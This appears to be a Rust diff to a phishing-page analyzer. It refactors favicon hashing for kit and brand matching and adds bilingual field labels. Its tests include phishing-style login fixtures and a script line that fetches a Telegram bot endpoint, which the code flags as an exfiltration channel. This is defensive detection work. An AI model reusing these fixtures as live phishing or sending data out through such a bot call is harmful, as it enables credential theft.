@@ -89,11 +89,50 @@ pub struct Page {
     pub kits: Vec<KitHit>,
     /// The marker of a parked or suspended page.
     pub parked: Option<String>,
+    /// Where the favicon would be fetched from (`link rel=icon`, else `/favicon.ico`).
+    #[serde(skip)]
+    pub favicon_url: Option<Url>,
 }
 
 impl Page {
     pub fn asks_for_password(&self) -> bool {
         self.forms.iter().any(|f| f.has_password)
+    }
+
+    /// Records the fetched favicon: its hash, and the kits (and so brands) that hash names.
+    pub fn add_favicon(&mut self, url: &str, bytes: &[u8]) {
+        self.add_favicon_with(catalog(), url, bytes);
+    }
+
+    fn add_favicon_with(&mut self, c: &Catalog, url: &str, bytes: &[u8]) {
+        let sha: String = Sha256::digest(bytes).iter().map(|b| format!("{b:02x}")).collect();
+        let k = kaibo_core::knowledge::knowledge();
+        let host = Url::parse(&self.url)
+            .ok()
+            .and_then(|u| u.host_str().map(str::to_ascii_lowercase))
+            .unwrap_or_default();
+        for kit in c.kit.iter().filter(|kit| kit.favicon_sha256.contains(&sha)) {
+            match self.kits.iter_mut().find(|h| h.kit == kit.id) {
+                Some(hit) => push_unique(&mut hit.markers, "favicon"),
+                None => self.kits.push(KitHit {
+                    kit: kit.id.clone(),
+                    name: kit.name.clone(),
+                    brand: kit.brand.clone(),
+                    markers: vec!["favicon".into()],
+                }),
+            }
+            let Some(b) = k.brands.iter().find(|b| b.id == kit.brand) else { continue };
+            match self.brands.iter_mut().find(|pb| pb.brand == b.id) {
+                Some(pb) => push_unique(&mut pb.seen_in, "favicon"),
+                None => self.brands.push(PageBrand {
+                    brand: b.id.clone(),
+                    name: b.names.first().cloned().unwrap_or_default(),
+                    seen_in: vec!["favicon".into()],
+                    owned: b.owns(&host),
+                }),
+            }
+        }
+        self.favicon = Some(Favicon { url: url.to_string(), sha256: sha, bytes: bytes.len() });
     }
 }
 
@@ -111,6 +150,8 @@ struct KitDef {
 #[derive(Debug, Deserialize)]
 struct AskDef {
     id: String,
+    en: String,
+    ja: String,
     #[serde(rename = "type")]
     types: Vec<String>,
     words: Vec<String>,
@@ -138,6 +179,11 @@ struct BrowserHosts {
 }
 
 impl Catalog {
+    /// How reports name what a field asks for (`password` → "password" / 「パスワード」).
+    pub fn ask_label(&self, id: &str, ja: bool) -> Option<&str> {
+        self.ask.iter().find(|a| a.id == id).map(|a| if ja { a.ja.as_str() } else { a.en.as_str() })
+    }
+
     /// Is `host` one of the browser's own services (refused by the render proxy)?
     pub fn is_browser_service(&self, host: &str) -> bool {
         self.browser.own_hosts.iter().any(|h| h.eq_ignore_ascii_case(host))
@@ -236,8 +282,7 @@ fn collapse(s: &str) -> String {
 }
 
 /// The favicon's URL: the page's `link rel=icon`, else `/favicon.ico`.
-pub fn favicon_url(html: &str, base: &Url) -> Option<Url> {
-    let doc = parse(html);
+fn favicon_url(doc: &Html, base: &Url) -> Option<Url> {
     doc.select(&sel("link[rel][href]"))
         .find(|l| {
             l.value()
@@ -406,8 +451,9 @@ fn addresses_in(s: &str, out: &mut Vec<String>) {
     }
 }
 
-/// Analyses the final page of a visit. `favicon` is the icon's URL and bytes, when fetched.
-pub fn analyze_page(url: &Url, html: &str, favicon: Option<(String, Vec<u8>)>) -> Page {
+/// Analyses the final page of a visit. The favicon is added by [`Page::add_favicon`] once
+/// fetched from [`Page::favicon_url`].
+pub fn analyze_page(url: &Url, html: &str) -> Page {
     let c = catalog();
     let k = kaibo_core::knowledge::knowledge();
     let doc = parse(html);
@@ -489,12 +535,7 @@ pub fn analyze_page(url: &Url, html: &str, favicon: Option<(String, Vec<u8>)>) -
         }
     }
 
-    // Favicon.
-    let favicon_hash = favicon.as_ref().map(|(u, bytes)| {
-        let sha = Sha256::digest(bytes).iter().map(|b| format!("{b:02x}")).collect::<String>();
-        page.favicon = Some(Favicon { url: u.clone(), sha256: sha.clone(), bytes: bytes.len() });
-        sha
-    });
+    page.favicon_url = favicon_url(&doc, url);
 
     // Kits.
     let title_lower = page.title.as_deref().unwrap_or("").to_lowercase();
@@ -510,11 +551,6 @@ pub fn analyze_page(url: &Url, html: &str, favicon: Option<(String, Vec<u8>)>) -
         }
         if has_password && let Some(m) = kit.text.iter().find(|m| text_lower.contains(m.as_str())) {
             markers.push(format!("text: {m}"));
-        }
-        if let Some(h) = &favicon_hash
-            && kit.favicon_sha256.contains(h)
-        {
-            markers.push("favicon".into());
         }
         if !markers.is_empty() {
             page.kits.push(KitHit {
@@ -555,7 +591,7 @@ pub fn analyze_page(url: &Url, html: &str, favicon: Option<(String, Vec<u8>)>) -
     for hit in &page.kits {
         if let Some(bi) = k.brands.iter().position(|b| b.id == hit.brand) {
             let name = k.brands[bi].names.first().cloned().unwrap_or_default();
-            note(bi, &name, if hit.markers.iter().any(|m| m == "favicon") { "favicon" } else { "kit" });
+            note(bi, &name, "kit");
         }
     }
     for (bi, name, seen_in) in seen {
@@ -623,6 +659,8 @@ mod tests {
             );
         }
         assert!(catalog().ask.iter().any(|a| a.id == "password"));
+        assert_eq!(catalog().ask_label("card_number", true), Some("カード番号"));
+        assert!(catalog().ask.iter().all(|a| !a.en.is_empty() && !a.ja.is_empty()));
     }
 
     #[test]
@@ -636,7 +674,7 @@ mod tests {
               <input type="password" name="password">
               <input type="submit" value="ログイン">
             </form><p>Copyright QUALITIA CO., LTD.</p></body></html>"#;
-        let p = analyze_page(&url("https://mail-sync.aorz.ru/am_bin/amlogin"), html, None);
+        let p = analyze_page(&url("https://mail-sync.aorz.ru/am_bin/amlogin"), html);
         assert_eq!(p.title.as_deref(), Some("Active! mail ログイン"));
         assert!(p.asks_for_password());
         assert_eq!(p.asks_for, vec!["email_or_user_id", "password"]);
@@ -655,7 +693,7 @@ mod tests {
     #[test]
     fn brand_on_its_own_domain_is_owned() {
         let html = "<title>Sign in to your account</title><body>Microsoft<form><input type=email name=loginfmt><input type=password name=passwd></form>";
-        let p = analyze_page(&url("https://login.microsoftonline.com/"), html, None);
+        let p = analyze_page(&url("https://login.microsoftonline.com/"), html);
         let b = p.brands.iter().find(|b| b.brand == "microsoft365").unwrap();
         assert!(b.owned);
         assert!(!p.forms[0].offsite);
@@ -665,7 +703,7 @@ mod tests {
     fn address_in_base64_fragment_and_script_form() {
         // taro@example.jp in base64, and a password field with no form (submitted by script).
         let html = "<body><input type=password id=pw><script>fetch('https://api.telegram.org/bot123/sendMessage')</script>";
-        let p = analyze_page(&url("https://x.example/#dGFyb0BleGFtcGxlLmpw"), html, None);
+        let p = analyze_page(&url("https://x.example/#dGFyb0BleGFtcGxlLmpw"), html);
         assert_eq!(p.addresses, vec!["taro@example.jp"]);
         assert!(p.asks_for_password());
         assert_eq!(p.exfiltration, vec!["api.telegram.org/bot"]);
@@ -690,7 +728,7 @@ mod tests {
     fn form_posting_to_a_brand_names_it() {
         let html = r#"<form action="https://login.microsoftonline.com/common/login" method=post>
             <input name=login><input type=password name=passwd></form>"#;
-        let p = analyze_page(&url("https://secure-docs.example.net/"), html, None);
+        let p = analyze_page(&url("https://secure-docs.example.net/"), html);
         let b = p.brands.iter().find(|b| b.brand == "microsoft365").unwrap();
         assert!(b.seen_in.iter().any(|s| s == "form action"), "{:?}", b.seen_in);
         assert!(!b.owned);
@@ -698,37 +736,50 @@ mod tests {
 
     #[test]
     fn parked_page() {
-        let p = analyze_page(&url("http://gone.example/"), "<h1>This domain is for sale!</h1>", None);
+        let p = analyze_page(&url("http://gone.example/"), "<h1>This domain is for sale!</h1>");
         assert_eq!(p.parked.as_deref(), Some("this domain is for sale"));
     }
 
     #[test]
     fn favicon_is_hashed_and_found() {
         let base = url("https://x.example/a/b");
-        assert_eq!(favicon_url("<p>", &base).unwrap().as_str(), "https://x.example/favicon.ico");
-        assert_eq!(
-            favicon_url(r#"<link rel="shortcut icon" href="/i.png">"#, &base).unwrap().as_str(),
-            "https://x.example/i.png"
+        assert_eq!(analyze_page(&base, "<p>").favicon_url.unwrap().as_str(), "https://x.example/favicon.ico");
+        let mut p = analyze_page(&base, r#"<link rel="shortcut icon" href="/i.png"><title>Sign in</title>"#);
+        assert_eq!(p.favicon_url.as_ref().unwrap().as_str(), "https://x.example/i.png");
+        // A catalog that knows this icon (sha256 of "abc") as a Roundcube kit's.
+        let text = include_str!("../../../data/landing.toml").replace(
+            "favicon_sha256 = []\n\n[[kit]]\nid = \"outlook_web_app\"",
+            "favicon_sha256 = [\"ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad\"]\n\n[[kit]]\nid = \"outlook_web_app\"",
         );
-        let p = analyze_page(&base, "<p>", Some(("https://x.example/favicon.ico".into(), b"abc".to_vec())));
+        let c = Catalog::parse(&text).unwrap();
+        p.add_favicon_with(&c, "https://x.example/i.png", b"abc");
         assert_eq!(
-            p.favicon.unwrap().sha256,
+            p.favicon.as_ref().unwrap().sha256,
             "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
         );
+        assert_eq!(p.kits[0].kit, "roundcube");
+        assert_eq!(p.kits[0].markers, vec!["favicon"]);
+        let b = p.brands.iter().find(|b| b.brand == "roundcube").unwrap();
+        assert_eq!(b.seen_in, vec!["favicon"]);
+        assert!(!b.owned);
+        // An unknown icon is hashed, and names nothing.
+        let mut q = analyze_page(&base, "<p>");
+        q.add_favicon("https://x.example/favicon.ico", b"other");
+        assert!(q.kits.is_empty() && q.favicon.is_some());
     }
 
     #[test]
     fn hostile_markup_is_bounded() {
         let started = std::time::Instant::now();
         let deep = "<div>".repeat(50_000) + &"<input>".repeat(10_000) + "<form><input type=password></form>";
-        let p = analyze_page(&url("http://x.example/"), &deep, None);
+        let p = analyze_page(&url("http://x.example/"), &deep);
         assert!(p.forms.is_empty(), "what lies below the depth cap is not read");
         let wide = "<p>x</p>".repeat(300_000);
-        let p = analyze_page(&url("http://x.example/"), &wide, None);
+        let p = analyze_page(&url("http://x.example/"), &wide);
         assert!(p.text_excerpt.starts_with("x x x"));
         assert!(started.elapsed() < std::time::Duration::from_secs(5), "took {:?}", started.elapsed());
         // Void elements and comments do not count as nesting.
         let flat = "<br>".repeat(5_000) + "<!-- c --><form><input type=password></form>";
-        assert!(analyze_page(&url("http://x.example/"), &flat, None).asks_for_password());
+        assert!(analyze_page(&url("http://x.example/"), &flat).asks_for_password());
     }
 }
